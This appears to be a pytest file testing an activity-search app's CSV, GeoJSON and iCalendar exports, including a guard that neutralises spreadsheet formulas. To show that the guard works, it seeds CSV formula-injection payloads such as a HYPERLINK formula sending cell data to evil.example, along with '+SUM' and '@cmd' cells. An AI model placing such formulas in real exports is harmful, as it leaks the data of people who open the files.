"""Exports of a search (issue 19): CSV with the formula guard, streamed GeoJSON, iCalendar from the typed schedule.

A small app of its own with hostile text, every kind of schedule and more activities than one page
or one export batch holds, so nothing here changes a count the other web tests rely on.
"""

import csv
import dataclasses
import datetime as dt
import io
import uuid

import icalendar
import pytest
import recurring_ical_events
import sqlalchemy as sa

from assetmap import db
from assetmap.exports.spreadsheet import guard_cell
from assetmap.schedule import LOCAL_TIME, parse_schedule
from assetmap.search import build_index
from assetmap.web import api, create_app

from ..factories import make_activity

FIRST_SEEN = dt.datetime(2026, 1, 2, 9, 0, tzinfo=dt.UTC)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
PUNCTUATED = 'Tea, cake; and a back\\slash chat'
FILLERS = 130   # with the named ones, more than one page of 100 and many export batches of 7


def _activity(name: str, when: str, **overrides):
    parsed = parse_schedule(when, FIRST_SEEN.date())
    return make_activity(name=name, schedule_text=when, schedule=parsed.tokens, extra={"schedule": parsed.detail},
                         first_seen=FIRST_SEEN, **overrides)


def _named():
    return {
        "walk": _activity("Tuesday walk", "Every Tuesday 10am-11am"),
        "lunch": _activity("Lunch club", "2nd and 4th Wednesday 2-4pm", categories=["food"]),
        "sing": _activity("Singing for breathing", "Every other Thursday 1pm-3pm from 8 January 2026", categories=["singing"],
                          lat=53.4466, lon=-2.3090, postcode="M32 0JT"),
        "sheds": _activity("Men in sheds", "Mondays 10am-12pm, not on bank holidays"),
        "fair": _activity("Summer fair", "Saturday 20 June 2026 11am-3pm"),
        "term": _activity("Toddler group", "Fridays 9.30-11am term time only"),
        "choir": _activity("Evening choir", "Wednesdays 7pm-9pm, not on 24 June 2026", categories=["singing"]),
        "hostile": _activity(FORMULA_NAME, "Every Tuesday 10am-11am", description="+SUM(A1:A2)\nsecond line", cost_text="@cmd",
                             phone="-1 800", website="https://example.org/"),
        "punctuated": _activity(PUNCTUATED, "Every Tuesday 2pm-3pm", description="Line one\nLine two; with, punctuation"),
        "phone": _activity("Befriending calls", "", delivery=["telephone"], lat=None, lon=None, postcode=None, precision="none",
                           ward_code=None, categories=["befriending"]),
    }


@pytest.fixture(scope="module")
def exports(settings, tmp_path_factory):
    folder = tmp_path_factory.mktemp("exports")
    own = dataclasses.replace(settings, database_url=f"sqlite:///{folder / 'web.db'}", index_dir=str(folder / "index"), tile_url="",
                              ratelimit_search="")
    engine = db.make_engine(own.database_url)
    db.create_schema(engine)
    named = _named()
    fillers = [_activity(f"Filler group {n}", "Every Tuesday 10am-11am", categories=["walking"]) for n in range(FILLERS)]
    with db.make_sessionmaker(engine).begin() as session:
        session.add_all([*named.values(), *fillers])
    with db.make_sessionmaker(engine)() as session:
        build_index(own, session)
    engine.dispose()
    app = create_app(own)
    yield app.test_client(), {key: a.id for key, a in named.items()}
    app.extensions["assetmap"]["engine"].dispose()


def _listed_ids(client, query: str) -> list[str]:
    ids, page = [], 1
    while True:
        body = client.get(f"/api/activities?{query}&per_page=100&page={page}").get_json()
        ids += [item["id"] for item in body["items"]]
        if len(ids) >= body["total"]:
            return ids
        page += 1


def _csv_rows(response) -> list[dict]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


# --- CSV -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+44 161 000 0000", "'+44 161 000 0000"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tindented", "'\tindented"), ("\rreturn", "'\rreturn"), ("Walk = fun", "Walk = fun"), ("", ""),
    (None, ""), (-2.3255, "-2.3255"), (True, "yes"), (["a", "=b"], "a; =b"),
])
def test_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(value, expected):
    assert guard_cell(value) == expected


def test_csv_holds_every_match_in_the_order_the_search_lists_them(exports):
    client, _ = exports
    response = client.get("/api/activities.csv?per_page=5&page=2")   # page arguments are checked, not used
    assert response.status_code == 200 and response.mimetype == "text/csv" and response.is_streamed
    assert response.headers["Content-Disposition"] == 'attachment; filename="activities-2026-06-15.csv"'
    rows = _csv_rows(response)
    assert [r["id"] for r in rows] == _listed_ids(client, "") and len(rows) > 100


def test_csv_takes_the_same_filters_as_the_search(exports):
    client, ids = exports
    query = "category=singing&day=wed"
    rows = _csv_rows(client.get(f"/api/activities.csv?{query}"))
    assert [r["id"] for r in rows] == _listed_ids(client, query) == [ids["choir"]]


def test_csv_cells_from_records_never_run_as_formulas(exports):
    client, ids = exports
    row = next(r for r in _csv_rows(client.get("/api/activities.csv")) if r["id"] == ids["hostile"])
    assert row["name"] == "'" + FORMULA_NAME and row["description"] == "'+SUM(A1:A2)\nsecond line"
    assert (row["cost"], row["phone"], row["website"]) == ("'@cmd", "'-1 800", "https://example.org/")
    assert row["lon"] == "-2.3255" and row["free"] == "yes" and row["page"] == f"/activities/{ids['hostile']}"


def test_a_bad_argument_is_a_json_400_before_any_row(exports):
    client, _ = exports
    response = client.get("/api/activities.csv?day=someday")
    assert response.status_code == 400 and "day" in response.get_json()["error"]


# --- GeoJSON -------------------------------------------------------------------------------------

def test_geojson_streams_every_located_match_in_batches(exports, monkeypatch):
    client, ids = exports
    monkeypatch.setattr(api, "EXPORT_BATCH", 7)
    response = client.get("/api/activities.geojson")
    assert response.status_code == 200 and response.mimetype == "application/geo+json" and response.is_streamed
    features = response.get_json()["features"]
    located = [i for i in _listed_ids(client, "") if i != ids["phone"]]
    assert [f["properties"]["id"] for f in features] == located
    assert all(f["geometry"]["type"] == "Point" and len(f["geometry"]["coordinates"]) == 2 for f in features)


def test_compact_properties_carry_only_what_a_marker_needs(exports):
    client, ids = exports
    features = client.get("/api/activities.geojson?compact=1&q=singing").get_json()["features"]
    by_id = {f["properties"]["id"]: f["properties"] for f in features}
    assert by_id[ids["sing"]] == {"id": ids["sing"], "name": "Singing for breathing", "freshness": "fresh",
                                  "categories": ["singing"]}


def test_bbox_keeps_the_points_inside_with_the_other_filters(exports):
    client, ids = exports
    features = client.get("/api/activities.geojson?bbox=-2.32,53.44,-2.30,53.45&compact=1").get_json()["features"]
    assert [f["properties"]["id"] for f in features] == [ids["sing"]]
    assert client.get("/api/activities.geojson?bbox=-2.32,53.44,-2.30,53.45&category=food").get_json()["features"] == []


def test_a_repeated_map_view_is_answered_from_the_browser_cache(exports):
    client, _ = exports
    first = client.get("/api/activities.geojson?compact=1&q=walk")
    tag = first.headers["ETag"]
    assert first.get_json()["features"]
    assert tag.startswith('W/"') and "max-age=" in first.headers["Cache-Control"]
    again = client.get("/api/activities.geojson?compact=1&q=walk", headers={"If-None-Match": tag})
    assert again.status_code == 304 and again.get_data() == b"" and again.headers["ETag"] == tag
    other = client.get("/api/activities.geojson?compact=1&q=lunch", headers={"If-None-Match": tag})
    assert other.status_code == 200 and other.headers["ETag"] != tag and other.get_json()["features"]


# --- iCalendar -----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def calendar(exports):
    client, _ = exports
    response = client.get("/api/activities.ics")
    assert response.status_code == 200 and response.mimetype == "text/calendar" and response.is_streamed
    return response.get_data(), icalendar.Calendar.from_ical(response.get_data())


def _starts(calendar, name: str, first: dt.date, last: dt.date) -> list[dt.datetime]:
    events = recurring_ical_events.of(calendar).between(first, last + dt.timedelta(days=1))
    return sorted(e["DTSTART"].dt for e in events if str(e["SUMMARY"]) == name)


def _at(day: str, clock: str) -> dt.datetime:
    return dt.datetime.fromisoformat(f"{day}T{clock}").replace(tzinfo=LOCAL_TIME)


def test_the_calendar_is_valid_rfc_5545_with_london_time(calendar):
    raw, parsed = calendar
    assert raw.startswith(b"BEGIN:VCALENDAR\r\n") and raw.endswith(b"END:VCALENDAR\r\n")
    assert all(len(line) <= 75 for line in raw.split(b"\r\n")), "content lines are folded at 75 octets"
    assert [tz["TZID"] for tz in parsed.walk("VTIMEZONE")] == ["Europe/London"]
    events = parsed.walk("VEVENT")
    assert all("DTSTAMP" in e and "UID" in e for e in events)
    assert len({str(e["UID"]) for e in events}) == len(events)


def test_a_weekly_session_repeats_at_the_same_wall_clock_time_across_the_clock_change(calendar):
    _, parsed = calendar
    summer = _starts(parsed, "Tuesday walk", dt.date(2026, 6, 15), dt.date(2026, 6, 30))
    assert summer == [_at("2026-06-16", "10:00"), _at("2026-06-23", "10:00"), _at("2026-06-30", "10:00")]
    [winter] = _starts(parsed, "Tuesday walk", dt.date(2026, 12, 1), dt.date(2026, 12, 1))
    assert winter.astimezone(dt.UTC).hour == 10 and summer[0].astimezone(dt.UTC).hour == 9
    [walk] = [e for e in parsed.walk("VEVENT") if e["SUMMARY"] == "Tuesday walk"]
    assert walk["DTSTART"].params["TZID"] == "Europe/London" and walk["RRULE"]["FREQ"] == ["WEEKLY"]


def test_monthly_fortnightly_and_skipped_days_follow_the_typed_schedule(calendar):
    _, parsed = calendar
    assert [d.date().isoformat() for d in _starts(parsed, "Lunch club", dt.date(2026, 7, 1), dt.date(2026, 7, 31))] == ["2026-07-08", "2026-07-22"]
    assert [d.day for d in _starts(parsed, "Singing for breathing", dt.date(2026, 6, 1), dt.date(2026, 6, 30))] == [11, 25]
    sheds = [d.date().isoformat() for d in _starts(parsed, "Men in sheds", dt.date(2026, 8, 20), dt.date(2026, 9, 8))]
    assert sheds == ["2026-08-24", "2026-09-07"]   # 31 August 2026 is the summer bank holiday
    choir = [d.date().isoformat() for d in _starts(parsed, "Evening choir", dt.date(2026, 6, 15), dt.date(2026, 7, 2))]
    assert choir == ["2026-06-17", "2026-07-01"]   # not on 24 June


def test_a_one_off_event_is_a_single_event_and_term_time_gives_none(calendar):
    _, parsed = calendar
    [fair] = [e for e in parsed.walk("VEVENT") if e["SUMMARY"] == "Summer fair"]
    assert "RRULE" not in fair and fair["DTSTART"].dt == _at("2026-06-20", "11:00") and fair["DTEND"].dt == _at("2026-06-20", "15:00")
    assert not [e for e in parsed.walk("VEVENT") if e["SUMMARY"] == "Toddler group"]


def test_text_is_escaped_and_comes_back_as_written(calendar):
    raw, parsed = calendar
    [event] = [e for e in parsed.walk("VEVENT") if str(e["SUMMARY"]) == PUNCTUATED]
    assert "Line two; with, punctuation" in str(event["DESCRIPTION"])
    assert b"SUMMARY:Tea\\, cake\\; and a back\\\\slash chat" in raw


def test_an_activitys_calendar_keeps_its_uid_and_says_when_it_has_no_dates(exports):
    client, ids = exports
    first, second = client.get(f"/activities/{ids['walk']}.ics"), client.get(f"/activities/{ids['walk']}.ics")
    assert first.status_code == 200 and first.headers["Content-Disposition"].startswith("attachment;")
    [event] = icalendar.Calendar.from_ical(first.get_data()).walk("VEVENT")
    assert str(event["UID"]) == f"{ids['walk']}@assetmap" and first.get_data() == second.get_data()
    assert client.get(f"/activities/{ids['term']}.ics").status_code == 404
    assert client.get("/activities/no-such-id.ics").status_code == 404
    assert client.get(f"/activities/{ids['walk']}").status_code == 200   # the page itself is still the page


def test_the_pages_link_to_the_exports_of_the_same_search(exports):
    client, ids = exports
    html = client.get("/?q=walk&day=tue").get_data(as_text=True)
    for path in ("/api/activities.csv", "/api/activities.geojson", "/api/activities.ics"):
        assert f'href="{path}?q=walk&amp;day=tue"' in html
    assert f'href="/activities/{ids["walk"]}.ics"' in client.get(f"/activities/{ids['walk']}").get_data(as_text=True)
    assert ".ics" not in client.get(f"/activities/{ids['term']}").get_data(as_text=True)


@pytest.mark.postgis
def test_on_postgis_the_exports_are_twins_of_the_search_too(postgis_url, settings):
    name = f"exports_{uuid.uuid4().hex[:10]}"
    admin = sa.create_engine(postgis_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.exec_driver_sql(f"CREATE DATABASE {name}")
    admin.dispose()
    own = dataclasses.replace(settings, database_url=sa.make_url(postgis_url).set(database=name).render_as_string(hide_password=False),
                              ratelimit_search="", tile_url="")
    engine = db.make_engine(own.database_url)
    db.create_schema(engine)
    named = _named()
    with db.make_sessionmaker(engine).begin() as session:
        session.add_all([*named.values(), *(_activity(f"Filler group {n}", "Every Tuesday 10am-11am") for n in range(30))])
        build_index(own, session)
    engine.dispose()
    app = create_app(own)
    try:
        client = app.test_client()
        pool = app.extensions["assetmap"]["engine"].pool
        for query in ("", "q=singing", "day=tue&category=walking"):
            listed = _listed_ids(client, query)
            assert [r["id"] for r in _csv_rows(client.get(f"/api/activities.csv?{query}"))] == listed
            assert pool.checkedout() == 0, "a finished export gives its database connection back"
            features = client.get(f"/api/activities.geojson?compact=1&{query}").get_json()["features"]
            assert [f["properties"]["id"] for f in features] == [i for i in listed if i != named["phone"].id]
            assert pool.checkedout() == 0
        [walk] = [e for e in icalendar.Calendar.from_ical(client.get("/api/activities.ics?q=tuesday walk").get_data()).walk("VEVENT")
                  if e["SUMMARY"] == "Tuesday walk"]
        assert str(walk["UID"]) == f"{named['walk'].id}@assetmap"
    finally:
        app.extensions["assetmap"]["engine"].dispose()
